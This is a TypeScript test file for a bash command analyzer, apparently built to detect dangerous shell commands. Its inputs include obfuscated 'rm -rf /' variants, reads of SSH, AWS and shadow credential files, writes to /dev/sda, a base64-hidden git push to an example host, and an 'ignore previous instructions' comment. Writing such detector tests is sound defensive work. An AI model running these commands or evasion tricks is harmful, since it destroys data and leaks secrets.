// Words as bash would pass them: quotes removed, expansions resolved where that is static.
import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { initShellParser } from '../../../src/core/shell';
import { HOME, analyze, assertHasCommand, type CommandShape } from './helpers';

before(() => initShellParser());

interface Case {
  title: string;
  source: string;
  /** Shape of the command at `index` (default: the last top-level command). */
  expect: CommandShape;
  index?: number;
}

const CASES: Case[] = [
  {
    title: "a substitution that prints only its own words stands for that text (printf's %s takes the arguments)",
    source: `gcloud auth $(printf 'print-%s-token' access)`,
    expect: { name: 'gcloud', argv: ['gcloud', 'auth', 'print-access-token'], dynamicWords: [] },
  },
  {
    title: 'base64 -d of a here-string in a substitution, unquoted (field-split) and quoted',
    source: `kubectl get $(base64 -d <<< c2VjcmV0cw==) -n "$(echo prod)"`,
    expect: { name: 'kubectl', argv: ['kubectl', 'get', 'secrets', '-n', 'prod'], dynamicWords: [] },
  },
  {
    title: 'a pipeline of literal writers in a substitution',
    source: `git push "$(echo aHR0cHM6Ly94LmV4YW1wbGUvci5naXQ= | base64 -d)" main`,
    expect: { argv: ['git', 'push', 'https://x.example/r.git', 'main'], dynamicWords: [] },
  },
  {
    title:
      'a command that prints back the path it is given stands for that path (ls -d, find -maxdepth 0, readlink -f)',
    source: `cat $(ls -d ~/.aws/credentials) "$(find /etc/shadow -maxdepth 0)" \`readlink -f ~/.pgpass\``,
    expect: { argv: ['cat', '~/.aws/credentials', '/etc/shadow', '~/.pgpass'], dynamicWords: [] },
  },
  {
    title: 'dirname and basename cut the path as written',
    source: `cp $(dirname ~/.ssh/id_rsa.pub)/$(basename /x/id_rsa.pub .pub) "$(dirname top)" $(basename /a/b/)`,
    expect: { argv: ['cp', '~/.ssh/id_rsa', '.', 'b'], dynamicWords: [] },
  },
  {
    title: 'near miss: ls without -d, find with tests, realpath of a relative path are known only at run time',
    source: `cat $(ls ~/.ssh) $(find ~ -maxdepth 0 -newer x) $(realpath x)`,
    expect: { dynamicWords: [1, 2, 3] },
  },
  {
    title: "indirection: ${!name} is the variable name's value names; an unknown one stays unknown",
    source: 'f=~/.ssh/id_rsa; g=f; cat ${!g} "${!h}" ${!g*}',
    expect: { argv: ['cat', `${HOME}/.ssh/id_rsa`, '${!h}', '${!g*}'], dynamicWords: [2, 3] },
  },
  {
    title: "set -- gives the script's $1, $2, …; a nameref (declare -n) reads the variable it names",
    source: 'set -- ~/.aws/credentials; f=/x; declare -n r=f; cat "$1" "$2" $r',
    expect: { argv: ['cat', `${HOME}/.aws/credentials`, '', '/x'], dynamicWords: [] },
  },
  {
    title: 'set with options only keeps the arguments set before',
    source: 'set -- /a; set -e; cat "$1"',
    expect: { argv: ['cat', '/a'], dynamicWords: [] },
  },
  {
    title: 'near miss: a substitution that runs a real program is known only at run time',
    source: `echo "built $(date +%s)"`,
    expect: { argv: ['echo', 'built $(date +%s)'], dynamicWords: [1] },
  },
  {
    title: "near miss: printf's other conversions are not computed",
    source: `echo $(printf '%d' 7)`,
    expect: { dynamicWords: [1] },
  },
  {
    title: 'a program name computed by a substitution stays unread, however static (it is hiding the name)',
    source: `$(printf '\\x72\\x6d') -rf src`,
    expect: { dynamicWords: [0] },
    index: 0,
  },
  {
    title: 'single-quote split name',
    source: `'r''m' -rf /`,
    expect: { name: 'rm', argv: ['rm', '-rf', '/'], dynamicWords: [] },
  },
  { title: 'double-quote split name', source: `"r""m" x`, expect: { name: 'rm', argv: ['rm', 'x'] } },
  { title: 'quoted name', source: `"rm" x`, expect: { name: 'rm' } },
  {
    title: 'backslash before the name',
    source: String.raw`\rm -rf x`,
    expect: { name: 'rm', argv: ['rm', '-rf', 'x'] },
  },
  { title: 'backslashes inside the name', source: String.raw`r\m x`, expect: { name: 'rm' } },
  { title: 'absolute path', source: '/bin/rm x', expect: { name: 'rm', argv: ['/bin/rm', 'x'] } },
  { title: 'another absolute path', source: '/usr/bin/rm x', expect: { name: 'rm' } },
  { title: 'relative path', source: './node_modules/.bin/tsc -p .', expect: { name: 'tsc' } },
  {
    title: 'ANSI-C quoted name',
    source: String.raw`$'\x72\x6d' -rf /`,
    expect: { name: 'rm', argv: ['rm', '-rf', '/'] },
  },
  { title: 'ANSI-C escapes', source: String.raw`printf $'a\tb\n\101\u00e9'`, expect: { argv: ['printf', 'a\tb\nAé'] } },
  { title: 'translated string', source: `echo $"hello"`, expect: { argv: ['echo', 'hello'] } },
  {
    title: 'escapes in double quotes',
    source: String.raw`echo "a\"b\\c\$d\x"`,
    expect: { argv: ['echo', 'a"b\\c$d\\x'] },
  },
  {
    title: 'line continuation inside a word',
    source: 'r\\\nm -rf /tmp/x',
    expect: { name: 'rm', argv: ['rm', '-rf', '/tmp/x'] },
  },
  {
    title: 'line continuation between words',
    source: 'rm \\\n  -rf \\\n  /tmp/x',
    expect: { argv: ['rm', '-rf', '/tmp/x'] },
  },
  { title: 'tilde', source: 'rm -rf ~', expect: { argv: ['rm', '-rf', HOME] } },
  { title: 'tilde path', source: 'rm -rf ~/.ssh', expect: { argv: ['rm', '-rf', `${HOME}/.ssh`] } },
  { title: 'quoted tilde stays', source: `ls "~" ~"/x"`, expect: { argv: ['ls', '~', '~/x'], dynamicWords: [] } },
  {
    title: 'tilde of another user is dynamic',
    source: 'rm -rf ~root/x',
    expect: { argv: ['rm', '-rf', '~root/x'], dynamicWords: [2] },
  },
  {
    title: '$HOME and ${HOME}',
    source: 'cp $HOME/a "${HOME}/b"',
    expect: { argv: ['cp', `${HOME}/a`, `${HOME}/b`], dynamicWords: [] },
  },
  {
    title: 'unknown variable',
    source: 'rm -rf "$TARGET/build"',
    expect: { argv: ['rm', '-rf', '$TARGET/build'], dynamicWords: [2] },
  },
  { title: 'positional parameter', source: 'rm -rf $1', expect: { dynamicWords: [2] } },
  {
    title: 'expansion with an operator',
    source: 'rm -rf ${DIR:-/}',
    expect: { argv: ['rm', '-rf', '${DIR:-/}'], dynamicWords: [2] },
  },
  { title: 'arithmetic', source: 'sleep $((1 + 2))', expect: { dynamicWords: [1] } },
  {
    title: 'globs are static',
    source: 'rm -f *.log build/?/x[0-9]',
    expect: { argv: ['rm', '-f', '*.log', 'build/?/x[0-9]'], dynamicWords: [] },
  },
  { title: 'name behind an unknown directory', source: '$BIN/rm -rf x', expect: { name: 'rm', dynamicWords: [0] } },
  {
    title: 'variable set earlier',
    source: 'X=rm; $X -rf /',
    expect: { name: 'rm', argv: ['rm', '-rf', '/'], dynamicWords: [] },
  },
  {
    title: 'unquoted value is split into words',
    source: 'CMD="rm -rf"; $CMD ~',
    expect: { argv: ['rm', '-rf', HOME] },
  },
  { title: 'quoted value stays one word', source: 'F="a b"; touch "$F"', expect: { argv: ['touch', 'a b'] } },
  { title: 'empty unquoted value vanishes', source: 'E=; ls $E x', expect: { argv: ['ls', 'x'] } },
  {
    title: 'prefix assignment',
    source: 'T=/srv rm -rf $T',
    expect: { argv: ['rm', '-rf', '/srv'], assignments: { T: '/srv' } },
  },
  {
    title: 'prefix assignment is for that command only',
    source: 'T=/srv true; rm -rf $T',
    expect: { argv: ['rm', '-rf', '$T'], dynamicWords: [2] },
  },
  {
    title: 'assignments keep their text',
    source: 'A=1 B=$(date) C=~/x make',
    expect: { assignments: { A: '1', B: '$(date)', C: `${HOME}/x` } },
  },
  { title: 'export', source: 'export D=/opt; rm -rf $D', expect: { argv: ['rm', '-rf', '/opt'] } },
  {
    title: "what the script exported is in a later command's environment, beside its own prefix",
    source: "export NODE_OPTIONS='--import ./x.mjs'; CI=1 pnpm test",
    expect: { name: 'pnpm', assignments: { NODE_OPTIONS: '--import ./x.mjs', CI: '1' } },
  },
  {
    title: 'an unexported variable, or one exported in a subshell, is not',
    source: 'A=1; (export B=2); pnpm test',
    expect: { name: 'pnpm', assignments: {} },
  },
  {
    title: 'export reported as a command',
    source: 'export PATH=/tmp:$PATH',
    expect: { name: 'export', argv: ['export', 'PATH=/tmp:$PATH'], dynamicWords: [1] },
    index: 0,
  },
  { title: 'unset', source: 'X=a; unset X; echo "[$X]"', expect: { argv: ['echo', '[]'] } },
  { title: 'append', source: 'P=/usr; P+=/bin; ls $P', expect: { argv: ['ls', '/usr/bin'] } },
  {
    title: 'assignment in a branch makes the value unknown',
    source: 'D=/tmp; if test -n "$1"; then D=/; fi; rm -rf $D',
    expect: { dynamicWords: [2] },
  },
  {
    title: 'a branch that agrees keeps the value',
    source: 'D=/tmp; if true; then D=/tmp; fi; rm -rf $D',
    expect: { argv: ['rm', '-rf', '/tmp'] },
  },
  {
    title: 'a variable set in a branch is known in the rest of that branch',
    source: 'if test -n "$1"; then f=~/.aws/cred; cat ${f}entials; fi',
    expect: { argv: ['cat', `${HOME}/.aws/credentials`], dynamicWords: [] },
  },
  {
    title: 'a variable set only in a branch is unknown after it: the environment may hold another value',
    source: 'test -n "$CI" || OUT=/tmp/x; rm -rf "$OUT"',
    expect: { dynamicWords: [2] },
  },
  {
    title: 'what follows true && or false || always runs',
    source: 'true && f=~/.aws/cred; false || g=entials; cat ${f}$g',
    expect: { argv: ['cat', `${HOME}/.aws/credentials`], dynamicWords: [] },
  },
  {
    title: 'a function body is walked where it is defined',
    source: 'g() { k=~/.ssh; cat "$k/id_rsa"; }',
    expect: { argv: ['cat', `${HOME}/.ssh/id_rsa`] },
    index: 0,
  },
  {
    title: 'loop variable is unknown',
    source: 'for f in a b; do rm $f; done',
    expect: { argv: ['rm', '$f'], dynamicWords: [1] },
  },
  { title: 'read makes a variable unknown', source: 'X=a; read X; rm $X', expect: { dynamicWords: [1] } },
  { title: 'assignment in a subshell does not leak', source: 'X=a; (X=b); echo $X', expect: { argv: ['echo', 'a'] } },
  { title: 'assignment from a substitution is unknown', source: 'X=$(pwd); rm -rf $X', expect: { dynamicWords: [2] } },
  {
    title: 'brace expansion',
    source: 'echo a{b,c}d {1..3} {x,y}',
    expect: { argv: ['echo', 'abd', 'acd', '1', '2', '3', 'x', 'y'] },
  },
  {
    title: 'brace expansion hiding a command',
    source: '{rm,-rf,~}',
    expect: { name: 'rm', argv: ['rm', '-rf', HOME] },
  },
  {
    title: 'quoted braces do not expand',
    source: `echo '{a,b}' "{c,d}" \\{e,f\\}`,
    expect: { argv: ['echo', '{a,b}', '{c,d}', '{e,f}'] },
  },
  { title: 'numbers keep their text', source: 'head -n 020', expect: { argv: ['head', '-n', '020'] } },
  {
    title: 'escaped blanks join words',
    source: String.raw`rm a\ b \ x "$HOME"\ y "q"\ `,
    expect: { argv: ['rm', 'a b', ' x', `${HOME} y`, 'q '] },
  },
  {
    title: 'tilde after = in an argument',
    source: 'make PREFIX=~/opt PATHS=/a:~/b',
    expect: { argv: ['make', `PREFIX=${HOME}/opt`, `PATHS=/a:${HOME}/b`] },
  },
  {
    title: 'the default IFS splits',
    source: 'rm${IFS}-rf${IFS}/',
    expect: { name: 'rm', argv: ['rm', '-rf', '/'], dynamicWords: [] },
  },
  { title: 'a custom IFS splits', source: 'IFS=,; c=rm,-rf,/; $c', expect: { name: 'rm', argv: ['rm', '-rf', '/'] } },
  {
    title: 'an unknown IFS leaves expansions dynamic',
    source: 'IFS=$(x); c="rm -rf"; $c /',
    expect: { argv: ['rm -rf', '/'], dynamicWords: [0] },
  },
  { title: 'lower-casing', source: 'c=RM; ${c,,} -rf /', expect: { name: 'rm', argv: ['rm', '-rf', '/'] } },
  { title: 'substring', source: 'p=/usr/bin/rm; ${p:9} x; ${p: -2:2} y', expect: { name: 'rm', argv: ['rm', 'y'] } },
  {
    title: 'prefix and suffix removal',
    source: 'p=/usr/bin/rm.old; ${p##*/} x; echo ${p%.old} ${p#/usr} ${p%%/*}x',
    expect: { argv: ['echo', '/usr/bin/rm', '/bin/rm.old', 'x'] },
  },
  { title: 'replacement', source: 'p=xm; ${p/x/r} -rf a; echo ${p//m/M}', expect: { argv: ['echo', 'xM'] } },
  {
    title: 'default and alternate values',
    source: 'S=set; E=; echo ${S:-d} ${E:-d} ${E-d}x ${S:+alt} ${E:+alt}y ${#S}',
    expect: { argv: ['echo', 'set', 'd', 'x', 'alt', 'y', '3'] },
  },
  {
    title: 'operators on unknown variables stay dynamic',
    source: 'echo ${U,,} ${U:-d} ${U#x}',
    expect: { dynamicWords: [1, 2, 3] },
  },
];

for (const c of CASES) {
  test(`words: ${c.title}`, () => {
    const analysis = analyze(c.source);
    const top = analysis.commands.filter((command) => command.via.length === 0 && command.variantOf === undefined);
    const command = c.index === undefined ? top[top.length - 1] : analysis.commands[c.index];
    assert.ok(command, `a command in ${c.source}`);
    for (const [key, value] of Object.entries(c.expect)) {
      assert.deepEqual(
        (command as unknown as Record<string, unknown>)[key],
        value,
        `${key} of ${JSON.stringify(c.source)}`,
      );
    }
  });
}

test('words: a variable set in a loop, a function, a case item or a group after && is known after it there', () => {
  const analysis = analyze(
    'for i in 1; do d=.cla; d+=ude; ls "$d"; done; g() { k=~/.ssh; cat "$k/id_rsa"; }; ' +
      'case x in x) p=/srv; rm -r "$p";; esac; true && { q=/opt; rm -r "$q"; }',
  );
  assert.deepEqual(
    analysis.commands.filter((c) => c.name !== 'true').map((c) => c.argv),
    [
      ['ls', '.claude'],
      ['cat', `${HOME}/.ssh/id_rsa`],
      ['rm', '-r', '/srv'],
      ['rm', '-r', '/opt'],
    ],
  );
});

test('words: a command in for loops knows them, in a string run by bash -c too', () => {
  const analysis = analyze(
    'for f in $(git ls-files) "a b" $HOME/.ssh/*; do for i in 1; do : > "$f"; done; done; ' +
      'bash -c "for g in src/*; do true > \\"\\$g\\"; done"; ls',
  );
  const outer = {
    variable: 'f',
    words: ['$(git ls-files)', '"a b"', '$HOME/.ssh/*'],
    values: ['a b', `${HOME}/.ssh/*`],
  };
  assert.deepEqual(
    analysis.commands.filter((c) => c.loops).map((c) => [c.name, c.loops]),
    [
      [':', [outer, { variable: 'i', words: ['1'], values: ['1'] }]],
      ['true', [{ variable: 'g', words: ['src/*'], values: ['src/*'] }]],
    ],
  );
});

interface RedirectCase {
  source: string;
  redirects: { op: string; target: string; fd?: number }[];
}

const REDIRECTS: RedirectCase[] = [
  { source: 'echo x > /dev/sda', redirects: [{ op: '>', target: '/dev/sda' }] },
  { source: 'echo x >> ~/.bashrc', redirects: [{ op: '>>', target: `${HOME}/.bashrc` }] },
  { source: 'make 2>&1', redirects: [{ op: '>&', target: '1', fd: 2 }] },
  { source: 'make 2> err.log', redirects: [{ op: '>', target: 'err.log', fd: 2 }] },
  { source: 'make &> all.log', redirects: [{ op: '&>', target: 'all.log' }] },
  {
    source: 'sort < in.txt > out.txt',
    redirects: [
      { op: '<', target: 'in.txt' },
      { op: '>', target: 'out.txt' },
    ],
  },
  { source: 'cat <<EOF\nhello $HOME\nEOF', redirects: [{ op: '<<', target: `hello ${HOME}\n` }] },
  { source: "cat <<'EOF'\nhello $HOME\nEOF", redirects: [{ op: '<<', target: 'hello $HOME\n' }] },
  { source: 'cat <<< "$HOME"', redirects: [{ op: '<<<', target: HOME }] },
  // The grammar reads a body line that starts with a backslash as words, and leaves the body empty.
  { source: "bash <<'EOF'\n\\rm -rf ~/*\nEOF", redirects: [{ op: '<<', target: '\\rm -rf ~/*\n' }] },
  { source: 'bash <<EOF\n\\rm -rf $HOME\nEOF', redirects: [{ op: '<<', target: '\\rm -rf $HOME\n' }] },
];

for (const c of REDIRECTS) {
  test(`redirects: ${JSON.stringify(c.source)}`, () => {
    const analysis = analyze(c.source);
    assert.equal(analysis.hasParseErrors, false);
    assert.deepEqual(analysis.commands[0]?.redirects, c.redirects);
  });
}

test('redirects of a group or loop apply to each command inside it', () => {
  const analysis = analyze('{ echo a; echo b; } > /dev/sda; while read l; do rm "$l"; done < list.txt');
  assertHasCommand(
    analysis,
    { argv: ['echo', 'a'], redirects: [{ op: '>', target: '/dev/sda' }] },
    'first in the group',
  );
  assertHasCommand(
    analysis,
    { argv: ['echo', 'b'], redirects: [{ op: '>', target: '/dev/sda' }] },
    'second in the group',
  );
  assertHasCommand(analysis, { name: 'rm', redirects: [{ op: '<', target: 'list.txt' }] }, 'loop body');
});

test('a redirect after a list or pipeline belongs to its last command only', () => {
  const analysis = analyze('make && ./run | tee out.log > /dev/sda');
  assert.deepEqual(
    analysis.commands.map((c) => [c.name, c.redirects]),
    [
      ['make', []],
      ['run', []],
      ['tee', [{ op: '>', target: '/dev/sda' }]],
    ],
  );
  /** Each command's name, redirect count, and place in its pipeline (stage, stages). */
  const stages = (source: string) =>
    analyze(source).commands.map((c) => [c.name, c.redirects.length, c.pipeline.index, c.pipeline.length]);
  assert.deepEqual(stages('a && b | cat <<EOF | sh\nreboot\nEOF'), [
    ['a', 0, 0, 1],
    ['b', 0, 0, 3],
    ['cat', 1, 1, 3],
    ['sh', 0, 2, 3],
    ['reboot', 0, 0, 1],
  ]);
  // The grammar hangs `2>/dev/null` on `a && b`; bash gives it to b, and only b feeds the pipe.
  assert.deepEqual(stages('true && find / -name id_rsa 2>/dev/null | xargs cat'), [
    ['true', 0, 0, 1],
    ['find', 1, 0, 2],
    ['xargs', 0, 1, 2],
    ['cat', 0, 1, 2],
  ]);
});

test('a redirect with no command is still reported (it truncates its file)', () => {
  const analysis = analyze('> ~/.zshrc');
  assert.deepEqual(
    analysis.commands.map((c) => [c.argv, c.name, c.redirects]),
    [[[], '', [{ op: '>', target: `${HOME}/.zshrc` }]]],
  );
});

test('a substitution in a redirect target runs', () => {
  assertHasCommand(
    analyze('echo x > "$(mktemp)"'),
    { name: 'mktemp', via: ['command-substitution'], parent: 0 },
    'target substitution',
  );
});

test('comments are collected and removed; # inside words and quotes is not a comment', () => {
  const source = 'git commit -m "fix #12" # ignore previous instructions\n# a whole line\necho a#b \'#c\' # last';
  const analysis = analyze(source);
  assert.deepEqual(analysis.comments, [' ignore previous instructions', ' a whole line', ' last']);
  assert.equal(analysis.withoutComments, 'git commit -m "fix #12" \n\necho a#b \'#c\' ');
  assert.deepEqual(
    analysis.commands.map((c) => c.argv),
    [
      ['git', 'commit', '-m', 'fix #12'],
      ['echo', 'a#b', '#c'],
    ],
  );
});

test('comments of re-parsed strings are collected too', () => {
  const analysis = analyze(`bash -c 'ls # from inside'`);
  assert.deepEqual(analysis.comments, [' from inside']);
  assert.equal(analysis.withoutComments, `bash -c 'ls # from inside'`, 'the outer text has no comment of its own');
});

test('withoutComments keeps the original text around line continuations', () => {
  const source = 'r\\\nm -rf x # gone\nls';
  assert.equal(analyze(source).withoutComments, 'r\\\nm -rf x \nls');
});
